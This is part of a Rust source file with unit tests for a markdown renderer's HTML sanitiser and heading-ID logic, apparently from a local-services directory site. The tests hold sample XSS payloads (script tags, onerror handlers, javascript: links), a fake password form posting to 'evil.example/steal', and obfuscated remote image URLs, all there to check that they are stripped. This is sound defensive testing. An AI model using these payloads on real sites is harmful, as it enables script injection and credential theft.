    let bytes = html.as_bytes();
    let mut out = String::with_capacity(html.len());
    let mut copied = 0;
    let mut i = 0;
    while let Some(found) = html[i..].find('<') {
        let at = i + found;
        let closing = bytes.get(at + 1) == Some(&b'/');
        let h = at + 1 + usize::from(closing);
        let digit = h + 1;
        let level = match (bytes.get(h), bytes.get(digit)) {
            (Some(b'h'), Some(d @ b'2'..=b'6')) => usize::from(d - b'0'),
            _ => {
                i = at + 1;
                continue;
            }
        };
        if closing && bytes.get(digit + 1) != Some(&b'>') {
            i = at + 1;
            continue;
        }
        out.push_str(&html[copied..digit]);
        out.push(char::from(b'0' + (level + by).min(6) as u8));
        copied = digit + 1;
        i = copied;
    }
    out.push_str(&html[copied..]);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every `id="..."` in sanitised HTML.
    fn ids_in(html: &str) -> Vec<&str> {
        let mut ids = Vec::new();
        for_each_attribute(html, |name, value, _| {
            if name == "id" {
                ids.push(value);
            }
        });
        ids
    }

    fn at(severity: Severity, line: usize, column: usize) -> (Severity, Option<Pos>) {
        (severity, Some(Pos::new(line, column)))
    }

    fn places(rendered: &Rendered) -> Vec<(Severity, Option<Pos>)> {
        let mut places: Vec<_> = rendered
            .problems
            .iter()
            .map(|p| (p.severity, p.pos))
            .collect();
        places.sort();
        places
    }

    #[test]
    fn identical_headings_get_distinct_ids_counting_not_rescanning() {
        let html = render(&"# Same\n\n".repeat(3000));
        let ids: Vec<&str> = html
            .split(" id=\"")
            .skip(1)
            .filter_map(|rest| rest.split('"').next())
            .collect();
        assert_eq!(ids.len(), 3000);
        assert_eq!(
            ids.iter().collect::<HashSet<_>>().len(),
            3000,
            "all distinct"
        );
        assert_eq!((ids[0], ids[1], ids[2999]), ("same", "same-2", "same-3000"));

        // The work: one try per heading, and each id tried a bounded number of
        // times even when the editor has written the suffixed ones ("A 2" is
        // "a-2"). Trying every suffix from 2 again took 4.5 million tries here.
        let mut unique = Unique::default();
        for _ in 0..3000 {
            unique.make("same");
        }
        assert_eq!(unique.tries, 3000, "one try per heading");
        let mut unique = Unique::default();
        for n in 2..=1000 {
            unique.make(&format!("a-{n}"));
        }
        let made: Vec<String> = (0..1000).map(|_| unique.make("a")).collect();
        assert_eq!((made[0].as_str(), made[1].as_str()), ("a", "a-1001"));
        assert!(unique.tries <= 3 * 2000, "{} tries", unique.tries);
    }

    #[test]
    fn deep_quotes_and_lists_stop_at_the_limit_and_keep_their_text() {
        let html = render(&format!("{}deepest words", "> ".repeat(1000)));
        assert_eq!(html.matches("<blockquote>").count(), MAX_NESTING, "{html}");
        assert!(html.contains("deepest words"));

        let html = render(&format!("{}deepest item", "- 1. ".repeat(500)));
        let lists = html.matches("<ul>").count() + html.matches("<ol>").count();
        assert_eq!(lists, MAX_NESTING, "{html}");
        assert!(html.contains("deepest item"));

        // Many lines, each one quote deeper.
        let stairs: String = (1..=40)
            .map(|n| format!("{}line {n}\n", "> ".repeat(n)))
            .collect();
        let html = render(&stairs);
        assert_eq!(html.matches("<blockquote>").count(), MAX_NESTING, "{html}");
        assert!(
            html.contains("line 1") && html.contains("line 40"),
            "{html}"
        );

        let html = render(&format!("{}x{}", "*a ".repeat(200), " b*".repeat(200)));
        assert_eq!(html.matches("<em>").count(), MAX_NESTING, "{html}");

        // Raw HTML nested too deep is shown as text, not parsed.
        let html = render(&format!("{}x", "<div>".repeat(1000)));
        assert!(!html.contains("<div>"), "{html}");
        assert!(html.contains("&lt;div&gt;x"), "{html}");
        let html = render(&format!("Some {}words", "<span><div></span>".repeat(100)));
        assert!(
            !html.contains("<div>"),
            "an end tag does not close past a <div>: {html}"
        );
    }

    #[test]
    fn nesting_within_the_limit_is_left_alone() {
        for source in [
            format!("{}x", "> ".repeat(MAX_NESTING)),
            "<div><div><span>a</span></div></div>\n\n<ul><li>a<li>b<li>c</ul>\n".repeat(40),
            "<p>a<p>b<p>c<p>d\n".repeat(40),
        ] {
            let rendered = render_at(&source, Origin::Body { line: 1 });
            assert_eq!(rendered.problems, [], "{source}");
            assert!(!rendered.html.contains("&lt;"), "{}", rendered.html);
        }
    }

    #[test]
    fn deep_nesting_is_a_warning_at_its_place() {
        let rendered = render_at(
            &format!("Intro.\n\n{}x\n\n{}y\n", "> ".repeat(30), "<b>".repeat(30)),
            Origin::Body { line: 7 },
        );
        // The 17th `>` on the body's third line; the 17th `<b>` on its fifth.
        assert_eq!(
            places(&rendered),
            [at(Severity::Warning, 9, 33), at(Severity::Warning, 11, 49)],
            "{:?}",
            rendered.problems
        );
    }

    #[test]
    fn images_from_other_hosts_are_removed() {
        let html = render(
            "![a](https://evil.example/a.png) ![b](http://evil.example/b.png) ![c](//evil.example/c.png)\n\n\
             <img src=\"https://evil.example/d.png\"> <IMG SRC=//evil.example/e.png> <img src=' \\\\evil.example/f.png'>\n\n\
             <image src=\"https://evil.example/g.png\"> <img src=\"&#47;&#47;evil.example/h.png\"> <img src=\"https:evil.example/i.png\">\n\n\
             ![ok](images/map.png) <img src=\"../static/logo.png\" alt=\"Logo\">\n",
        );
        assert!(!html.contains("evil.example"), "{html}");
        assert!(html.contains("src=\"images/map.png\""), "{html}");
        assert!(html.contains("src=\"../static/logo.png\""), "{html}");
        // The description of an image refused stays, as text.
        assert!(html.contains("<p>a b c"), "{html}");
    }

    #[test]
    fn images_from_other_hosts_are_errors_and_data_urls_warnings_at_their_place() {
        let rendered = render_at(
            "Hello.\n\n  ![tracker](https://evil.example/t.png)\n\n<p>\n<img\n  src=\"//evil.example/x\">\n</p>\n\n![inline](data:image/png;base64,AAAA) ![fine](a.png)\n",
            Origin::Body { line: 5 },
        );
        assert_eq!(
            places(&rendered),
            [
                at(Severity::Error, 7, 3),
                at(Severity::Error, 10, 1),
                at(Severity::Warning, 14, 1)
            ],
            "{:?}",
            rendered.problems
        );
        assert!(rendered.problems[0].message.contains("another host"));
        // A URL hidden from the scan is still removed, and still reported.
        let rendered = render_at(
            "<img src=\"&bsol;&bsol;evil.example/x\">",
            Origin::Body { line: 3 },
        );
        assert!(!rendered.html.contains("evil"), "{}", rendered.html);
        assert_eq!(places(&rendered), [at(Severity::Error, 3, 1)]);
        // Read as the parser reads it: the first `src` counts, and `<!-->`
        // is a whole comment.
        let rendered = render_at(
            "<img src=\"//evil.example/x\" src=\"a.png\"> <!--><img src=\"//evil.example/y\">-->",
            Origin::Body { line: 1 },
        );
        assert!(!rendered.html.contains("evil"), "{}", rendered.html);
        assert_eq!(
            places(&rendered),
            [at(Severity::Error, 1, 1), at(Severity::Error, 1, 47)]
        );
    }

    #[test]
    fn image_sources_are_read_as_a_browser_reads_them() {
        use ImageSource::*;
        for (url, kind) in [
            ("a.png", Local),
            ("images/a b.png", Local),
            ("../static/a.png", Local),
            ("/static/a.png", Local),
            ("?x=1:2", Local),
            ("https://x.example/a.png", Remote),
            ("HTTP://x.example/a.png", Remote),
            ("//x.example/a.png", Remote),
            ("\\\\x.example/a.png", Remote),
            ("/\\x.example/a.png", Remote),
            ("/\t/x.example/a.png", Remote),
            (" \u{1}//x.example/a.png", Remote),
            ("https:x.example/a.png", Remote),
            ("ftp://x.example/a.png", Remote),
            ("data:image/png;base64,AA", Data),
            ("DATA:image/png,AA", Data),
        ] {
            assert_eq!(image_source(url), kind, "{url:?}");
        }
    }

    #[test]
    fn form_controls_are_removed() {
        let html = render(
            "Log in to see your case:\n\n<form action=\"https://evil.example/steal\"><input type=password name=p>\
             <INPUT type=\"text\"><select><option>a</option></select><textarea>x</textarea><button>Go</button></form>\n\n\
             - [ ] a task\n- [x] done\n",
        );
        for bad in [
            "<form",
            "<input",
            "<select",
            "<textarea",
            "<button",
            "evil.example",
        ] {
            assert!(!html.contains(bad), "{bad} survived in {html}");
        }
        assert!(
            html.contains("☐ a task") && html.contains("☑ done"),
            "{html}"
        );
    }

    #[test]
    fn form_controls_are_errors_at_their_place() {
        let rendered = render_at(
            "Text.\n\nWrite here: <input type=password>\n\n<form>\n<button>Go</button>\n</form>\n\n<script>x = '<input>'</script>\n",
            Origin::Body { line: 4 },
        );
        assert_eq!(
            places(&rendered),
            [
                at(Severity::Error, 6, 13),
                at(Severity::Error, 8, 1),
                at(Severity::Error, 9, 1)
            ],
            "{:?}",
            rendered.problems
        );
        assert!(rendered.problems[0].message.contains("<input>"));
        // In a step's text (a YAML field), the place is the field's.
        let rendered = render_at("<select></select>", Origin::Field(Pos::new(12, 11)));
        assert_eq!(places(&rendered), [at(Severity::Error, 12, 11)]);
    }

    #[test]
    fn problems_beyond_the_limit_are_counted_on_one_line() {
        let rendered = render_at(&"<input>\n".repeat(100), Origin::Body { line: 1 });
        assert_eq!(rendered.problems.len(), MAX_PROBLEMS + 1);
        let last = &rendered.problems[MAX_PROBLEMS];
        assert!(last.message.contains("80 more"), "{}", last.message);
        assert_eq!(last.severity, Severity::Error);
    }

    #[test]
    fn a_file_body_knows_its_first_line() {
        let text = "---\nname: A\nsummary: B\n---\nBody\n";
        let split = crate::source::split_front_matter(text).unwrap();
        let body = Markdown::file_body(text, split.body);
        assert_eq!(body.origin, Origin::Body { line: 5 });
    }

    #[test]
    fn footnotes_and_headings_share_one_set_of_ids() {
        let html = render(
            "# Fn 1\n\nA[^note] and B[^2], again[^note].\n\n[^note]: First.\n[^2]: Second.\n\nSee [the top](#fn-1) and [where](#Where_To).\n\n## Go {#Where_To}\n",
        );
        let ids = ids_in(&html);
        assert_eq!(ids, ["fn-1", "fn-1-2", "fn-2", "where-to"], "{html}");
        assert!(
            html.contains("<a href=\"#fn-1-2\" rel=\"noopener noreferrer\">1</a>"),
            "{html}"
        );
        assert!(
            html.contains("<a href=\"#fn-2\" rel=\"noopener noreferrer\">2</a>"),
            "{html}"
        );
        assert!(
            html.contains("href=\"#where-to\""),
            "a link to an explicit id as written: {html}"
        );
    }

    #[test]
    fn raw_html_ids_and_the_pages_own_are_not_taken() {
        let html = render(
            "# Main\n\n<div id=\"main\">x</div><h2 id=\"steps\">y</h2>\n\n# Emergency label\n",
        );
        assert_eq!(ids_in(&html), ["main-2", "emergency-label-2"], "{html}");
    }

    #[test]
    fn prefixed_ids_keep_their_links() {
        let html = render(
            "# Top\n\nText[^1] and [up](#top), [elsewhere](#services), [out](https://x.example/#top).\n\n[^1]: A note.\n",
        );
        let prefixed = prefix_ids(&html, "service-a--");
        assert_eq!(ids_in(&prefixed), ["service-a--top", "service-a--fn-1"]);
        assert!(prefixed.contains("href=\"#service-a--fn-1\""), "{prefixed}");
        assert!(prefixed.contains("href=\"#service-a--top\""), "{prefixed}");
        assert!(
            prefixed.contains("href=\"#services\""),
            "not an id of the body: {prefixed}"
        );
        assert!(
            prefixed.contains("href=\"https://x.example/#top\""),
            "{prefixed}"
        );
        assert_eq!(
            prefix_ids("<p>id=\"x\" &lt;a id=\"y\"&gt;</p>", "p--"),
            "<p>id=\"x\" &lt;a id=\"y\"&gt;</p>"
        );
    }

    #[test]
    fn prefixes_cannot_meet() {
        // Two bodies' ids are equal only if their prefixes are: an id of the
        // introduction holds no `--`, so cannot be `step-S--...`.
        assert_eq!(step_ids("a", "b"), "pathway-a--step-b--");
        assert!(!pathway_ids("a").ends_with("step-b--"));
        let intro = render("# Step b\n\n## Step b {#step-b--x}\n");
        for id in ids_in(&intro) {
            assert!(!id.contains("--"), "{id}");
        }
    }

    #[test]
    fn site_reports_body_problems_at_their_place_in_the_file() {
        let dir = tempfile::tempdir().unwrap();
        let write = |rel: &str, text: &str| {
            let path = dir.path().join(rel);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        };
        write("content/site.yaml", "title: T\npublisher: P\n");
        write(
            "content/needs.yaml",
            "- slug: housing\n  name: Housing\n  description: D\n",
        );
        write(
            "content/areas/essex.yaml",
            "name: Essex\ncouncil: Essex County Council\n",
        );
        write(
            "content/services/a.md",
            "---\nname: A\norganisation: O\nsummary: S\nareas: [essex]\nneeds: [housing]\nreferral: [self]\n\
             contact:\n  phone: 01206 500585\nlast_reviewed: 2026-06-01\n---\n## About\n\n\
             See ![map](https://evil.example/map.png)\n\n<input type=password>\n",
        );
        write(
            "content/pathways/p.md",
            "---\ntitle: P\narea: essex\nsteps:\n  - id: one\n    title: One\n    text: <button>Go</button>\n---\nIntro.\n",
        );
        let options = crate::load::LoadOptions {
            drafts: false,
            today: time::Date::from_calendar_date(2026, time::Month::November, 24).unwrap(),
        };
        let (_, diags) = crate::site::load_site(dir.path(), &options);
        let lines: Vec<String> = diags.sorted().iter().map(ToString::to_string).collect();
        let found = |start: &str| lines.iter().any(|l| l.starts_with(start));
        assert!(
            found(
                "content/services/a.md:14:5: error: the image \"https://evil.example/map.png\" is on another host"
            ),
            "{lines:#?}"
        );
        assert!(
            found("content/services/a.md:16:1: error: a form control (<input>)"),
            "{lines:#?}"
        );
        assert!(
            found("content/pathways/p.md:7:11: error: a form control (<button>)"),
            "{lines:#?}"
        );
    }

    #[test]
    fn demoting_headings_matches_the_simple_replacements() {
        // The one-pass version against the obvious one, on awkward input.
        fn by_replacing(html: &str, by: usize) -> String {
            let mut out = html.to_owned();
            for level in (2..=6).rev() {
                let to = (level + by).min(6);
                out = out
                    .replace(&format!("<h{level}"), &format!("<h{to}"))
                    .replace(&format!("</h{level}>"), &format!("</h{to}>"));
            }
            out
        }
        for html in [
            "<h2 id=\"a\">A</h2><p>x</p><h3>B</h3><h6>C</h6><h1>D</h1>",
            "<hr><h2>x</h2 ><h2</h2><</h5>é<h4>ü</h4><",
            "plain text",
            "",
            "<h2><h3><h4><h5><h6></h6></h5></h4></h3></h2>",
        ] {
            for by in 0..=5 {
                assert_eq!(
                    demote_headings(html, by),
                    by_replacing(html, by),
                    "{html} by {by}"
                );
            }
        }
    }

    #[test]
    fn renders_extensions() {
        let html = render(
            "## What we offer\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~old~~ \"quoted\"[^1]\n\n[^1]: A note.\n",
        );
        assert!(
            html.contains("<h2 id=\"what-we-offer\">What we offer</h2>"),
            "{html}"
        );
        assert!(html.contains("<table>"), "{html}");
        assert!(html.contains("<del>old</del>"), "{html}");
        assert!(html.contains("“quoted”"), "{html}");
        assert!(html.contains("footnote-definition"), "{html}");
    }

    #[test]
    fn headings_start_at_h2_with_unique_ids() {
        let html = render("# Top\n\n## Sub\n\n# Top\n");
        assert!(html.contains("<h2 id=\"top\">Top</h2>"), "{html}");
        assert!(html.contains("<h3 id=\"sub\">Sub</h3>"), "{html}");
        assert!(html.contains("<h2 id=\"top-2\">Top</h2>"), "{html}");
    }

    #[test]
    fn sanitises_raw_html() {
        let html = render(
            "<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<iframe src=\"https://evil.example\"></iframe>\n\n\
             [a](javascript:alert(1)) [b](data:text/html,x) <a href=\"JaVaScRiPt:alert(1)\">c</a>\n\n<style>body{}</style>\n\n\
             <svg><script>alert(1)</script></svg>\n",
        );
        for bad in [
            "<script",
            "onerror",
            "<iframe",
            "javascript:",
            "JaVaScRiPt",
            "data:",
            "<style",
            "<svg",
            "alert(1)</script",
        ] {
            assert!(!html.contains(bad), "{bad} survived in {html}");
        }
    }

    #[test]
    fn keeps_safe_links() {
        let html =
            render("[Call](tel:08082000247) [Web](https://example.org) [Mail](mailto:a@b.org)");
        assert!(html.contains("href=\"tel:08082000247\""), "{html}");
        assert!(html.contains("href=\"https://example.org\""), "{html}");
        assert!(html.contains("href=\"mailto:a@b.org\""), "{html}");
        assert!(html.contains("rel=\"noopener noreferrer\""), "{html}");
    }

    #[test]
    fn template_syntax_in_markdown_is_just_text() {
        let html = render("{{ config }} {% include \"x\" %}");
        assert!(html.contains("{{ config }}"), "{html}");
    }

    #[test]
    fn demotes_headings() {
        assert_eq!(
            demote_headings("<h2 id=\"a\">A</h2><h3>B</h3>", 2),
            "<h4 id=\"a\">A</h4><h5>B</h5>"
        );
        assert_eq!(
            demote_headings("<p>&lt;h2</p><h6>x</h6>", 2),
            "<p>&lt;h2</p><h6>x</h6>"
        );
    }
}
